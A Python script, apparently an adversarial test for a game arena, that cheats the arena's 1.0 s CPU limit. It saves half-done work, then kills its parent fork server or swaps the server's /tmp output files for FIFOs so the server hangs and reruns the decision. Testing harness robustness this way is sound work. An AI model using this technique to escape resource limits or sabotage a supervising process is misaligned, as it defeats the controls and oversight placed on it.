"""Attack: get twice the decision's CPU time with no fault by breaking arena's Python fork server.

A warm decision computes for 0.7 s of CPU, saves where it is in ``half.txt`` (with the deal it is for)
and breaks its parent, the fork server: it kills it, or, when this file is staged under a name holding
``Fifo``, leaves FIFOs where the server reads its stdout and stderr, so the server hangs opening them.
Arena calls a failed server its own incident and runs the decision again cold: that run finds
``half.txt``, computes 0.7 s more and answers, so the decision had 1.4 s of CPU against a 1.0 s limit.
Every decision completed this way is noted in ``doubled.txt``. Answers 0.
"""
import os
import signal
import time


def spin(seconds):
    start = time.process_time()
    while time.process_time() - start < seconds:
        pass


def break_server(server):
    if "Fifo" not in os.path.basename(__file__):
        os.kill(server, signal.SIGKILL)
        time.sleep(5)
    for name in (f"/tmp/.warm-{server}.out", f"/tmp/.warm-{server}.err"):
        os.unlink(name)
        os.mkfifo(name)
    os._exit(0)


deal = open("deal.txt").read() + open("inputf.txt").read()
try:
    saved_deal, saved_cpu = open("half.txt").read().split("\0")
except (OSError, ValueError):
    saved_deal, saved_cpu = None, "0"
if saved_deal == deal:
    os.unlink("half.txt")
    spin(0.7)
    with open("doubled.txt", "a") as note:
        note.write(f"{float(saved_cpu) + time.process_time():.2f}\n")
    with open("outputf.txt", "w") as answer:
        answer.write("0\n")
elif os.getppid() != 1:  # warm: the parent is the fork server
    spin(0.7)
    with open("half.txt", "w") as state:
        state.write(f"{deal}\0{time.process_time():.3f}")
    break_server(os.getppid())
else:
    with open("outputf.txt", "w") as answer:
        answer.write("0\n")
